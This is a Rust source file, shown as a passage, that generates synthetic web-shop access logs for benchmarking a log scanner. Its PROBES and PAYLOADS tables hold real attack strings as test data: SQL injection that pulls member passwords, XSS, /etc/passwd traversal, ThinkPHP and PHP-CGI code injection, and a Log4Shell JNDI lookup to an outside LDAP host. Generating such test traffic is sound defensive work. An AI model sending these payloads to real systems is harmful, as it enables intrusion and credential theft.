//! Deterministic generator of realistic Apache/nginx `combined` access logs for an EC-CUBE 4
//! style shop, used by the scan benchmarks (`benches/run.sh`).
//!
//! The traffic is simulated as overlapping visitor sessions on one clock: shoppers (browsing,
//! Japanese searches, cart and checkout, mypage) with their static assets, admin staff from
//! two office IPs, search bots, vulnerability scanners bursting 404s, and rare drive-by attack
//! payloads (SQLi, XSS, traversal, `.env` probes). Sessions are scheduled on a time-ordered
//! heap so timestamps never go backwards; the offset is always `+0900` (Asia/Tokyo).
//!
//! Everything comes from one [`SplitMix64`] stream seeded by [`Config::seed`], so the same
//! configuration always produces byte-identical output.

use std::cmp::Reverse;
use std::collections::{BinaryHeap, VecDeque};

/// SplitMix64 (Steele, Lea & Flood): a tiny, fast, statistically sound 64-bit PRNG.
#[derive(Clone, Debug)]
pub struct SplitMix64(u64);

impl SplitMix64 {
    pub fn new(seed: u64) -> Self {
        SplitMix64(seed)
    }

    pub fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    /// Uniform in `0..n` (`n > 0`), by multiply-shift (bias negligible for small `n`).
    pub fn below(&mut self, n: u64) -> u64 {
        ((u128::from(self.next_u64()) * u128::from(n)) >> 64) as u64
    }

    /// Uniform in `lo..=hi`.
    pub fn range(&mut self, lo: u64, hi: u64) -> u64 {
        lo + self.below(hi - lo + 1)
    }

    /// Uniform in `[0, 1)`.
    pub fn unit(&mut self) -> f64 {
        (self.next_u64() >> 11) as f64 * (1.0 / (1u64 << 53) as f64)
    }

    /// True with probability `p`.
    pub fn chance(&mut self, p: f64) -> bool {
        self.unit() < p
    }

    pub fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len() as u64) as usize]
    }

    /// Exponentially distributed with the given mean.
    pub fn exp(&mut self, mean: f64) -> f64 {
        -mean * (1.0 - self.unit()).ln()
    }
}

/// Which server wrote the log: they differ only in how an empty body is logged.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Flavor {
    /// Apache `%b`: `-` for no body.
    Apache,
    /// nginx `$body_bytes_sent`: `0` for no body.
    Nginx,
}

/// What to generate.
#[derive(Clone, Debug)]
pub struct Config {
    pub seed: u64,
    /// Unix seconds of the first line (default 2024-04-01 00:00:00 +0900).
    pub start: i64,
    /// Mean new visitor sessions per hour at the daily peak.
    pub sessions_per_hour: f64,
    /// Host name used in referers.
    pub host: String,
    pub flavor: Flavor,
}

impl Default for Config {
    fn default() -> Self {
        Config {
            seed: 1,
            start: 1_711_897_200,
            sessions_per_hour: 2400.0,
            host: "shop.example.jp".into(),
            flavor: Flavor::Apache,
        }
    }
}

/// Offset written on every line, in seconds east of UTC.
pub const OFFSET_SECS: i64 = 9 * 3600;

const MONTHS: [&str; 12] = [
    "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
];

/// Civil date from days since 1970-01-01 (Howard Hinnant's algorithm).
pub fn civil_from_days(z: i64) -> (i64, u32, u32) {
    let z = z + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let y = yoe + era * 400;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = (doy - (153 * mp + 2) / 5 + 1) as u32;
    let m = if mp < 10 { mp + 3 } else { mp - 9 } as u32;
    (if m <= 2 { y + 1 } else { y }, m, d)
}

/// Days since 1970-01-01 of a civil date (inverse of [`civil_from_days`]).
pub fn days_from_civil(y: i64, m: u32, d: u32) -> i64 {
    let y = if m <= 2 { y - 1 } else { y };
    let era = y.div_euclid(400);
    let yoe = y - era * 400;
    let m = i64::from(m);
    let doy = (153 * (if m > 2 { m - 3 } else { m + 9 }) + 2) / 5 + i64::from(d) - 1;
    let doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
    era * 146_097 + doe - 719_468
}

/// `dd/Mon/yyyy:HH:MM:SS +0900` for a Unix time.
pub fn clf_time(unix: i64) -> String {
    let local = unix + OFFSET_SECS;
    let (y, m, d) = civil_from_days(local.div_euclid(86_400));
    let s = local.rem_euclid(86_400);
    format!(
        "{:02}/{}/{:04}:{:02}:{:02}:{:02} +0900",
        d,
        MONTHS[m as usize - 1],
        y,
        s / 3600,
        s / 60 % 60,
        s % 60
    )
}

fn push_u64(out: &mut Vec<u8>, mut v: u64) {
    let mut buf = [0u8; 20];
    let mut i = buf.len();
    loop {
        i -= 1;
        buf[i] = b'0' + (v % 10) as u8;
        v /= 10;
        if v == 0 {
            break;
        }
    }
    out.extend_from_slice(&buf[i..]);
}

/// Percent-encodes every byte outside the unreserved set (as browsers send form values).
pub fn percent_encode(s: &str) -> String {
    let mut out = String::with_capacity(s.len() * 3);
    for b in s.bytes() {
        if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
            out.push(b as char);
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}

// ---------------------------------------------------------------------------------------
// Vocabulary

const BROWSER_UAS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36 Edg/123.0.2420.81",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; SO-51D) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 13; SH-53C) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.6312.118 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (iPad; CPU OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Line/14.5.0",
];

const GOOGLEBOT: &[&str] = &[
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.91 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Googlebot-Image/1.0",
];
const BINGBOT: &str = "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36";
const OTHER_BOTS: &[&str] = &[
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
    "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
];

const SCANNER_UAS: &[&str] = &[
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000626)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "Mozilla/5.0 zgrab/0.x",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "-",
];
const DRIVEBY_UAS: &[&str] = &[
    "curl/8.4.0",
    "python-requests/2.28.2",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/108.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/104.0.5112.79 Safari/537.36",
];

const SEARCH_REFERERS: &[&str] = &[
    "https://www.google.com/",
    "https://www.google.co.jp/",
    "https://search.yahoo.co.jp/",
    "https://www.bing.com/",
    "https://www.instagram.com/",
    "https://t.co/",
];

const SEARCH_WORDS: &[&str] = &[
    "コーヒー",
    "紅茶",
    "緑茶",
    "抹茶",
    "ギフト",
    "セール",
    "送料無料",
    "チョコレート",
    "新作",
    "限定",
    "お歳暮",
    "母の日",
    "クッキー",
    "日本酒",
    "北海道",
    "有機 ほうじ茶",
    "ドリップバッグ",
    "coffee",
    "gift set",
];

/// Front-end template assets loaded on a cold page view: (path, size).
const FRONT_ASSETS: &[(&str, u64)] = &[
    ("/html/template/default/assets/css/style.css", 186_412),
    ("/html/template/default/assets/css/customize.css", 412),
    ("/html/bundle/front.bundle.js", 496_203),
    ("/html/template/default/assets/js/function.js", 3_562),
    ("/html/template/default/assets/js/eccube.js", 10_238),
    ("/html/template/default/assets/js/customize.js", 88),
    ("/html/user_data/assets/img/common/favicon.ico", 1_150),
    ("/html/template/default/assets/img/common/logo.png", 9_854),
    ("/html/template/default/assets/icon/cart.svg", 1_276),
    (
        "/html/template/default/assets/img/top/img_hero_pc01.jpg",
        231_532,
    ),
];
const ADMIN_ASSETS: &[(&str, u64)] = &[
    ("/html/template/admin/assets/css/app.css", 245_088),
    ("/html/bundle/admin.bundle.js", 1_204_733),
    ("/html/template/admin/assets/js/function.js", 4_113),
    ("/html/template/admin/assets/img/logo.svg", 2_381),
];

/// Probes sent by scanners: (target, status, size).
const PROBES: &[(&str, u16, u64)] = &[
    ("/.env", 403, 199),
    ("/.env.bak", 403, 199),
    ("/app/.env", 404, 196),
    ("/ec-cube/.env", 404, 196),
    ("/.git/config", 403, 199),
    ("/.git/HEAD", 403, 199),
    ("/wp-login.php", 404, 196),
    ("/wp-admin/", 404, 13_204),
    ("/xmlrpc.php", 404, 196),
    ("/phpmyadmin/", 404, 13_204),
    ("/pma/index.php", 404, 196),
    ("/admin.php", 404, 196),
    ("/config.php.bak", 404, 196),
    ("/backup.zip", 404, 196),
    ("/db.sql", 404, 196),
    ("/server-status", 403, 199),
    (
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        404,
        196,
    ),
    ("/html/user_data/shell.php", 404, 196),
    ("/html/upload/save_image/1.php", 404, 196),
    ("/alfa.php", 404, 196),
    ("/wso.php", 404, 196),
    ("/c99.php", 404, 196),
    ("/cgi-bin/luci/;stok=/locale", 404, 196),
    ("/.DS_Store", 404, 196),
    ("/var/log/", 403, 199),
    ("/app/config/eccube/packages/doctrine.yaml", 403, 199),
    ("/index.php/admin", 404, 13_204),
    ("/actuator/env", 404, 13_204),
    ("/.aws/credentials", 404, 196),
    ("/info.php", 404, 196),
];

/// Attack payloads in targets: (target, status, size).
const PAYLOADS: &[(&str, u16, u64)] = &[
    ("/products/list?name=%27%20OR%201%3D1--%20", 200, 41_322),
    ("/products/list?category_id=1%27%20AND%20SLEEP(5)%23", 200, 12_881),
    ("/products/detail/1%20UNION%20SELECT%201,2,3,4--", 404, 13_204),
    ("/products/list?name=1%27%20union%20select%20login_id,password%20from%20dtb_member--", 200, 41_322),
    ("/products/list?orderby=(SELECT%20CASE%20WHEN%201=1%20THEN%201%20ELSE%200%20END)", 200, 48_117),
    ("/products/list?name=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", 200, 40_210),
    ("/contact?name=%22%3E%3Csvg%2Fonload%3Dalert(1)%3E", 200, 18_442),
    ("/products/list?name=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", 200, 40_210),
    ("/html/../../../../../../etc/passwd", 400, 226),
    ("/?file=../../../../etc/passwd", 200, 64_011),
    ("/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", 400, 226),
    ("/user_data/..%2f..%2f..%2fapp%2fconfig%2feccube%2f.env", 404, 13_204),
    ("/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP", 404, 13_204),
    ("/?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", 200, 64_011),
    ("/shopping/confirm?${jndi:ldap://45.155.205.233:12344/Basic/Command/Base64}", 405, 13_204),
];

/// Office IPs the admin staff works from.
const OFFICE_IPS: &[&str] = &["203.0.113.24", "198.51.100.77"];

const JP_V4_FIRST: &[u64] = &[
    1, 14, 27, 36, 42, 49, 58, 60, 61, 101, 106, 110, 111, 114, 118, 119, 121, 122, 124, 125, 126,
    133, 153, 180, 182, 183, 202, 210, 211, 218, 219, 220, 221,
];

// ---------------------------------------------------------------------------------------
// Sessions

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Kind {
    Shopper,
    Bot,
    Scanner,
    DriveBy,
    Staff,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Step {
    Landing,
    Browse,
    Checkout,
    Done,
}

struct Req {
    method: &'static str,
    target: String,
    status: u16,
    size: u64,
    referer: String,
    /// Milliseconds after the previous request of the session.
    delay_ms: u64,
}

struct Session {
    kind: Kind,
    ip: String,
    ua: &'static str,
    proto: &'static str,
    step: Step,
    /// Page views (or requests, for scanners and bots) still to make.
    budget: u32,
    logged_in: bool,
    cart: bool,
    last_page: String,
    queue: VecDeque<Req>,
}

/// Produces log lines one at a time.
pub struct Generator {
    cfg: Config,
    rng: SplitMix64,
    /// Current time in Unix milliseconds.
    now_ms: i64,
    next_arrival_ms: i64,
    next_staff_ms: i64,
    heap: BinaryHeap<Reverse<(i64, usize)>>,
    slots: Vec<Option<Session>>,
    free: Vec<usize>,
    words: Vec<String>,
    ts_sec: i64,
    ts_text: String,
    origin: String,
}

impl Generator {
    pub fn new(cfg: Config) -> Self {
        let mut rng = SplitMix64::new(cfg.seed ^ 0x005E_ED0F_EC1B);
        let start_ms = cfg.start * 1000;
        let first = start_ms + rng.below(2000) as i64;
        let origin = format!("https://{}", cfg.host);
        Generator {
            words: SEARCH_WORDS.iter().map(|w| percent_encode(w)).collect(),
            rng,
            now_ms: start_ms,
            next_arrival_ms: first,
            next_staff_ms: start_ms,
            heap: BinaryHeap::new(),
            slots: Vec::new(),
            free: Vec::new(),
            ts_sec: i64::MIN,
            ts_text: String::new(),
            origin,
            cfg,
        }
    }

    /// Hour of day (0..24) in Japan of a Unix millisecond time.
    fn jst_hour(ms: i64) -> i64 {
        (ms / 1000 + OFFSET_SECS).rem_euclid(86_400) / 3600
    }

    /// Share of the peak arrival rate at a given JST hour (night trough, evening peak).
    fn diurnal(hour: i64) -> f64 {
        const W: [f64; 24] = [
            0.55, 0.40, 0.28, 0.20, 0.16, 0.18, 0.25, 0.38, 0.50, 0.58, 0.62, 0.66, 0.78, 0.70,
            0.64, 0.62, 0.64, 0.70, 0.78, 0.88, 0.96, 1.00, 0.95, 0.75,
        ];
        W[hour as usize]
    }

    fn v4(&mut self) -> String {
        let a = *self.rng.pick(JP_V4_FIRST);
        format!(
            "{}.{}.{}.{}",
            a,
            self.rng.below(256),
            self.rng.below(256),
            self.rng.range(1, 254)
        )
    }

    fn v6(&mut self) -> String {
        let prefix = *self.rng.pick(&[
            "2400:4050",
            "2400:4051",
            "240b:10",
            "240b:11",
            "2001:268",
            "2404:7a80",
        ]);
        format!(
            "{}:{:x}:{:x}:{:x}:{:x}:{:x}:{:x}",
            prefix,
            self.rng.below(0x10000),
            self.rng.below(0x10000),
            self.rng.below(0x10000),
            self.rng.below(0x10000),
            self.rng.below(0x10000),
            self.rng.below(0x10000)
        )
    }

    fn spawn(&mut self, kind: Kind, at: i64) {
        let r = &mut self.rng;
        let (ip, ua, proto, budget) = match kind {
            Kind::Shopper => {
                let ua = *r.pick(BROWSER_UAS);
                let proto = if r.chance(0.6) {
                    "HTTP/2.0"
                } else {
                    "HTTP/1.1"
                };
                let budget = 1 + r.exp(5.0) as u32;
                let ip = if r.chance(0.18) { self.v6() } else { self.v4() };
                (ip, ua, proto, budget)
            }
            Kind::Bot => {
                let which = r.below(100);
                let budget = 1 + r.exp(8.0) as u32;
                let (ip, ua) = if which < 55 {
                    let ip = if r.chance(0.1) {
                        format!(
                            "2001:4860:4801:{:x}::{:x}",
                            r.below(0x100),
                            r.range(1, 0xff)
                        )
                    } else {
                        format!("66.249.{}.{}", r.range(64, 79), r.range(1, 254))
                    };
                    (ip, *r.pick(GOOGLEBOT))
                } else if which < 80 {
                    let ip = if r.chance(0.5) {
                        format!("157.55.39.{}", r.range(1, 254))
                    } else {
                        format!("40.77.167.{}", r.range(1, 254))
                    };
                    (ip, BINGBOT)
                } else {
                    let ip = format!(
                        "{}.{}.{}.{}",
                        r.pick(&[5u64, 54, 85, 95, 185, 213]),
                        r.below(256),
                        r.below(256),
                        r.range(1, 254)
                    );
                    (ip, *r.pick(OTHER_BOTS))
                };
                (ip, ua, "HTTP/1.1", budget)
            }
            Kind::Scanner => {
                let ip = format!(
                    "{}.{}.{}.{}",
                    r.pick(&[45u64, 89, 103, 141, 185, 193, 194]),
                    r.below(256),
                    r.below(256),
                    r.range(1, 254)
                );
                let ua = *r.pick(SCANNER_UAS);
                let budget = r.range(60, 600) as u32;
                (ip, ua, "HTTP/1.1", budget)
            }
            Kind::DriveBy => {
                let ip = format!(
                    "{}.{}.{}.{}",
                    r.pick(&[23u64, 45, 64, 91, 146, 167, 178, 198]),
                    r.below(256),
                    r.below(256),
                    r.range(1, 254)
                );
                let ua = *r.pick(DRIVEBY_UAS);
                let budget = r.range(1, 6) as u32;
                (ip, ua, "HTTP/1.1", budget)
            }
            Kind::Staff => {
                let ip = (*r.pick(OFFICE_IPS)).to_string();
                let ua = *r.pick(&BROWSER_UAS[..3]);
                let budget = r.range(3, 25) as u32;
                (ip, ua, "HTTP/1.1", budget)
            }
        };
        let s = Session {
            kind,
            ip,
            ua,
            proto,
            step: Step::Landing,
            budget,
            logged_in: false,
            cart: false,
            last_page: String::new(),
            queue: VecDeque::new(),
        };
        let id = match self.free.pop() {
            Some(id) => {
                self.slots[id] = Some(s);
                id
            }
            None => {
                self.slots.push(Some(s));
                self.slots.len() - 1
            }
        };
        self.heap.push(Reverse((at, id)));
    }

    /// Writes the next line (with its `\n`) to `out`.
    pub fn next_line(&mut self, out: &mut Vec<u8>) {
        loop {
            // New arrivals that are due before the next scheduled request.
            let due = self.heap.peek().map_or(i64::MAX, |r| r.0 .0);
            if self.next_staff_ms <= due.min(self.next_arrival_ms) {
                let at = self.next_staff_ms;
                let secs = at / 1000 + OFFSET_SECS;
                let hour = secs.rem_euclid(86_400) / 3600;
                let weekday = (secs.div_euclid(86_400) + 4).rem_euclid(7); // 0 = Sunday
                if (1..=5).contains(&weekday) && (9..19).contains(&hour) {
                    self.spawn(Kind::Staff, at);
                }
                self.next_staff_ms += (self.rng.exp(25.0 * 60.0) * 1000.0) as i64 + 1;
                continue;
            }
            if self.next_arrival_ms <= due {
                let at = self.next_arrival_ms;
                let k = self.rng.below(10_000);
                let kind = match k {
                    0..=6_299 => Kind::Shopper,
                    6_300..=9_859 => Kind::Bot,
                    9_860..=9_867 => Kind::Scanner,
                    _ => Kind::DriveBy,
                };
                self.spawn(kind, at);
                let rate = self.cfg.sessions_per_hour * Self::diurnal(Self::jst_hour(at));
                self.next_arrival_ms += (self.rng.exp(3_600_000.0 / rate)) as i64;
                continue;
            }
            let Reverse((at, id)) = self.heap.pop().expect("a session is due");
            self.now_ms = self.now_ms.max(at);
            let mut s = self.slots[id].take().expect("live session");
            if s.queue.is_empty() {
                self.plan(&mut s);
            }
            let Some(req) = s.queue.pop_front() else {
                self.free.push(id);
                continue;
            };
            self.write(&s, &req, out);
            let next_delay = match s.queue.front() {
                Some(r) => r.delay_ms,
                None if s.budget == 0 || s.step == Step::Done => {
                    self.free.push(id);
                    return;
                }
                None => self.think_ms(s.kind),
            };
            self.slots[id] = Some(s);
            self.heap
                .push(Reverse((self.now_ms + next_delay as i64, id)));
            return;
        }
    }

    fn think_ms(&mut self, kind: Kind) -> u64 {
        let r = &mut self.rng;
        match kind {
            Kind::Shopper => 2_000 + r.exp(25_000.0) as u64,
            Kind::Staff => 3_000 + r.exp(40_000.0) as u64,
            Kind::Bot => 500 + r.exp(20_000.0) as u64,
            Kind::Scanner => 30 + r.exp(250.0) as u64,
            Kind::DriveBy => 200 + r.exp(3_000.0) as u64,
        }
    }

    fn url(&self, target: &str) -> String {
        format!("{}{}", self.origin, target)
    }

    /// Sizes vary around a typical value by up to ±`spread` (fraction).
    fn around(&mut self, typical: u64, spread: f64) -> u64 {
        let f = 1.0 + spread * (2.0 * self.rng.unit() - 1.0);
        (typical as f64 * f) as u64
    }

    fn page(
        &mut self,
        s: &mut Session,
        method: &'static str,
        target: String,
        status: u16,
        size: u64,
    ) {
        let referer = if s.last_page.is_empty() {
            if s.kind == Kind::Shopper && self.rng.chance(0.55) {
                (*self.rng.pick(SEARCH_REFERERS)).to_string()
            } else {
                "-".to_string()
            }
        } else {
            s.last_page.clone()
        };
        let cold = s.last_page.is_empty();
        let page_url = self.url(&target);
        let delay_ms = 0;
        s.queue.push_back(Req {
            method,
            target,
            status,
            size,
            referer,
            delay_ms,
        });
        if status == 200 && method == "GET" && matches!(s.kind, Kind::Shopper | Kind::Staff) {
            let assets = if s.kind == Kind::Staff {
                ADMIN_ASSETS
            } else {
                FRONT_ASSETS
            };
            for &(path, size) in assets {
                if cold || self.rng.chance(0.04) {
                    let (st, sz) = if cold && self.rng.chance(0.7) {
                        (200, size)
                    } else {
                        (304, 0)
                    };
                    let delay_ms = self.rng.range(5, 120);
                    s.queue.push_back(Req {
                        method: "GET",
                        target: path.to_string(),
                        status: st,
                        size: sz,
                        referer: page_url.clone(),
                        delay_ms,
                    });
                }
            }
            if s.kind == Kind::Shopper {
                // Product images of the page.
                for _ in 0..self.rng.range(1, 8) {
                    let delay_ms = self.rng.range(5, 200);
                    // A shop has a fixed catalogue: each product image has one name and
                    // one size, the same on every request.
                    let product = self.rng.range(1, PRODUCT_IMAGES);
                    let h = product_hash(product);
                    let img = format!(
                        "/html/upload/save_image/{:04}{:06}_{:012x}.jpg",
                        101 + h % 1130,
                        (h >> 12) % 1_000_000,
                        (h >> 16) & ((1 << 48) - 1)
                    );
                    let size = 18_000 + (h >> 8) % 222_000;
                    s.queue.push_back(Req {
                        method: "GET",
                        target: img,
                        status: 200,
                        size,
                        referer: page_url.clone(),
                        delay_ms,
                    });
                }
            }
        }
        if status == 200 && method == "GET" {
            s.last_page = page_url;
        }
    }

    /// Queues the session's next action (a page view with its assets, or a probe).
    fn plan(&mut self, s: &mut Session) {
        if s.budget == 0 || s.step == Step::Done {
            return;
        }
        s.budget -= 1;
        match s.kind {
            Kind::Shopper => self.plan_shopper(s),
            Kind::Staff => self.plan_staff(s),
            Kind::Bot => self.plan_bot(s),
            Kind::Scanner => self.plan_scanner(s),
            Kind::DriveBy => {
                let &(t, st, sz) = self.rng.pick(PAYLOADS);
                let size = self.around(sz, 0.02);
                self.page(s, "GET", t.to_string(), st, size);
                s.last_page.clear();
            }
        }
    }

    fn product(&mut self) -> u64 {
        // A few best sellers get most views.
        if self.rng.chance(0.5) {
            self.rng.range(1, 20)
        } else {
            self.rng.range(1, 480)
        }
    }

    fn plan_shopper(&mut self, s: &mut Session) {
        let r = self.rng.below(100);
        if s.step == Step::Landing {
            s.step = Step::Browse;
            let (t, size) = match r {
                0..=34 => ("/".to_string(), self.around(68_000, 0.05)),
                35..=74 => (
                    format!("/products/detail/{}", self.product()),
                    self.around(34_000, 0.25),
                ),
                _ => (
                    format!("/products/list?category_id={}", self.rng.range(1, 32)),
                    self.around(52_000, 0.3),
                ),
            };
            return self.page(s, "GET", t, 200, size);
        }
        if s.step == Step::Checkout {
            return self.plan_checkout(s);
        }
        match r {
            0..=27 => {
                let id = self.product();
                let (st, size) = if self.rng.chance(0.015) {
                    (404, self.around(13_204, 0.0))
                } else {
                    (200, self.around(34_000, 0.25))
                };
                self.page(s, "GET", format!("/products/detail/{id}"), st, size);
            }
            28..=45 => {
                let t = format!(
                    "/products/list?category_id={}{}",
                    self.rng.range(1, 32),
                    if self.rng.chance(0.3) {
                        format!("&pageno={}", self.rng.range(2, 6))
                    } else {
                        String::new()
                    }
                );
                let size = self.around(52_000, 0.3);
                self.page(s, "GET", t, 200, size);
            }
            46..=57 => {
                let w = self.rng.below(self.words.len() as u64) as usize;
                let t = format!("/products/list?category_id=&name={}", self.words[w]);
                let size = self.around(45_000, 0.4);
                self.page(s, "GET", t, 200, size);
            }
            58..=68 => {
                // Add to cart (POST, redirect) then the cart page.
                let id = self.product();
                let size = self.around(360, 0.05);
                self.page(s, "POST", format!("/products/add_cart/{id}"), 302, size);
                let size = self.around(26_000, 0.2);
                self.page(s, "GET", "/cart".into(), 200, size);
                s.cart = true;
            }
            69..=76 if s.cart => {
                s.step = Step::Checkout;
                self.plan_checkout(s);
            }
            69..=80 => {
                if s.logged_in {
                    let size = self.around(24_000, 0.1);
                    let t = match self.rng.below(3) {
                        0 => "/mypage/".to_string(),
                        1 => format!("/mypage/history/{:08x}", self.rng.below(1 << 32)),
                        _ => "/mypage/favorite".into(),
                    };
                    self.page(s, "GET", t, 200, size);
                } else {
                    let size = self.around(21_000, 0.05);
                    self.page(s, "GET", "/mypage/login".into(), 200, size);
                    if self.rng.chance(0.8) {
                        let size = self.around(350, 0.05);
                        self.page(s, "POST", "/mypage/login".into(), 302, size);
                        s.logged_in = true;
                        let size = self.around(24_000, 0.1);
                        self.page(s, "GET", "/mypage/".into(), 200, size);
                    }
                }
            }
            81..=88 => {
                let t = *self.rng.pick(&[
                    "/help/about",
                    "/help/tradelaw",
                    "/help/privacy",
                    "/help/guide",
                    "/contact",
                    "/entry",
                ]);
                let size = self.around(19_000, 0.15);
                self.page(s, "GET", t.into(), 200, size);
            }
            89..=92 => {
                let size = self.around(930, 0.3);
                self.page(s, "GET", "/block/cart".into(), 200, size);
            }
            _ => {
                let size = self.around(68_000, 0.05);
                self.page(s, "GET", "/".into(), 200, size);
            }
        }
    }

    fn plan_checkout(&mut self, s: &mut Session) {
        if !s.logged_in {
            let size = self.around(340, 0.05);
            self.page(s, "GET", "/shopping".into(), 302, size);
            let size = self.around(22_000, 0.05);
            self.page(s, "GET", "/shopping/login".into(), 200, size);
            if self.rng.chance(0.4) {
                let size = self.around(30_000, 0.05);
                self.page(s, "GET", "/shopping/nonmember".into(), 200, size);
                let size = self.around(350, 0.05);
                self.page(s, "POST", "/shopping/nonmember".into(), 302, size);
            } else {
                let size = self.around(350, 0.05);
                self.page(s, "POST", "/shopping/login".into(), 302, size);
            }
            s.logged_in = true;
        }
        let size = self.around(48_000, 0.15);
        self.page(s, "GET", "/shopping".into(), 200, size);
        if self.rng.chance(0.25) {
            // Abandoned at the order form.
            s.step = Step::Done;
            return;
        }
        let size = self.around(46_000, 0.15);
        self.page(s, "POST", "/shopping/confirm".into(), 200, size);
        if self.rng.chance(0.15) {
            s.step = Step::Done;
            return;
        }
        let size = self.around(330, 0.05);
        self.page(s, "POST", "/shopping/checkout".into(), 302, size);
        let size = self.around(22_500, 0.05);
        self.page(s, "GET", "/shopping/complete".into(), 200, size);
        s.step = Step::Done;
    }

    fn plan_staff(&mut self, s: &mut Session) {
        if !s.logged_in {
            s.logged_in = true;
            let size = self.around(330, 0.05);
            self.page(s, "GET", "/admin".into(), 302, size);
            let size = self.around(9_800, 0.02);
            self.page(s, "GET", "/admin/login".into(), 200, size);
            if self.rng.chance(0.08) {
                // A mistyped password first.
                let size = self.around(350, 0.05);
                self.page(s, "POST", "/admin/login".into(), 302, size);
                let size = self.around(9_900, 0.02);
                self.page(s, "GET", "/admin/login".into(), 200, size);
            }
            let size = self.around(340, 0.05);
            self.page(s, "POST", "/admin/login".into(), 302, size);
            let size = self.around(61_000, 0.1);
            self.page(s, "GET", "/admin/".into(), 200, size);
            return;
        }
        let id = self.rng.range(1, 9_000);
        match self.rng.below(10) {
            0..=3 => {
                let size = self.around(88_000, 0.3);
                self.page(s, "GET", "/admin/order".into(), 200, size);
                let size = self.around(120_000, 0.2);
                self.page(s, "GET", format!("/admin/order/{id}/edit"), 200, size);
            }
            4 => {
                let size = self.around(350, 0.05);
                self.page(s, "POST", format!("/admin/order/{id}/edit"), 302, size);
            }
            5 | 6 => {
                let pid = self.product();
                let size = self.around(75_000, 0.2);
                self.page(s, "GET", "/admin/product".into(), 200, size);
                let size = self.around(140_000, 0.1);
                self.page(
                    s,
                    "GET",
                    format!("/admin/product/product/{pid}/edit"),
                    200,
                    size,
                );
                if self.rng.chance(0.5) {
                    let size = self.around(370, 0.05);
                    self.page(
                        s,
                        "POST",
                        format!("/admin/product/product/{pid}/edit"),
                        302,
                        size,
                    );
                }
            }
            7 => {
                let size = self.around(70_000, 0.2);
